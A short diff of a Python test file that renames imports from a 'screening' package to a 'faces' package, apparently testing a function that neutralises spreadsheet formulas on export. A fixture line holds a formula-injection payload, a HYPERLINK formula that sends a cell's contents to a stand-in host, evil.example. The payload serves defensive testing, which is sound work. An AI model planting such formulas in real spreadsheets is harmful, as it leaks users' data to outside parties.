@@ -16,8 +16,8 @@ import pytest
 from openpyxl import Workbook
 from typer.testing import CliRunner
 
-from screening.cli import app
-from screening.export import neutralise_formulas
+from faces.cli import app
+from faces.export import neutralise_formulas
 
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'
 LONG = (
